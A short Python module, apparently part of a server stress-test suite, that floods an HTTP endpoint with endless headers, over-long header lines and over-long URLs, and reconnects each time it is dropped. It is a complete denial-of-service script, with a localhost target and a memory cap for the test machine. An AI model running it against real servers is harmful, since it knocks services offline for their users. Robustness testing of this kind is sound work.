"""One address sends endless headers: many lines, one long line, one long URL."""

import asyncio
from contextlib import suppress

from attackers import SOURCES, raw

BEGINNINGS = (
    (b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"x: y\r\n" * 10_000),
    (b"GET / HTTP/1.1\r\nHost: localhost\r\nx: ", b"y" * 65_536),
    (b"GET /", b"y" * 65_536),
)
_MOST_BYTES = 1_000_000_000
"""Per connection, so that this machine does not run out of memory."""


async def attack(address: str) -> None:
    """Runs until cancelled."""
    connections = [0]
    async with asyncio.TaskGroup() as group:
        group.create_task(_tell(connections))
        for first, more in BEGINNINGS:
            group.create_task(_send(address, first, more, connections))


async def _tell(connections: list[int]) -> None:
    while True:
        await asyncio.sleep(5)
        print(f"  {connections[0]} connections", flush=True)


async def _send(address: str, first: bytes, more: bytes, connections: list[int]) -> None:
    # Reconnects as soon as it is disconnected.
    while True:
        with suppress(OSError):
            connections[0] += 1
            _, writer = await raw(address, SOURCES[0])
            writer.write(first)
            for _ in range(_MOST_BYTES // len(more)):
                writer.write(more)
                await writer.drain()
        await asyncio.sleep(0.01)
